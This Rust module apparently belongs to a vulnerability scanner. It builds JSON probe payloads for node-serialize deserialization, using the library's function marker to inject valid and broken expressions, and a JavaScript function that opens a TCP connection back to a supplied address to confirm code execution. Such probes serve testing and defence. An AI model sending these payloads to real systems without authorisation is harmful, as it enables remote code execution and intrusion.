//! JSON whose texts may be functions, as node-serialize reads them: an expression, and one that is broken.

use serde_json::Value;

use super::{Connecting, Place, Twins};

pub(super) fn twins(value: &[u8], _: &str) -> Option<Twins> {
    let Ok(Value::Object(own)) = serde_json::from_slice(value) else {
        return None;
    };
    let with = |expression: &str| {
        let mut own = own.clone();
        own.insert("vedette".to_owned(), Value::from(format!("{MARK}{expression}")));
        Value::Object(own).to_string().into_bytes()
    };
    Some(Twins {
        load: [with("(7)"), with("[7]")],
        fail: [with("(7"), with("[7")],
    })
}

/// A function that connects, and that is called where a text is taken for a function's.
pub(super) fn connecting(value: &[u8], place: Place) -> Option<Connecting> {
    let Ok(Value::Object(own)) = serde_json::from_slice(value) else {
        return None;
    };
    let with = |mark: &str| {
        // A connection that is refused must not end the process.
        let function = format!(
            "(process.mainModule||{{require:process.getBuiltinModule}}).require('net').connect({},'{}').on('error',Number)",
            place.sum(),
            place.address()
        );
        let mut own = own.clone();
        own.insert("vedette".to_owned(), Value::from(format!("{mark}{function}")));
        Value::Object(own).to_string().into_bytes()
    };
    Some(Connecting {
        connects: with(MARK),
        names: with(""),
    })
}

/// Behind it that library takes a text for a function's.
const MARK: &str = "_$$ND_FUNC$$_";
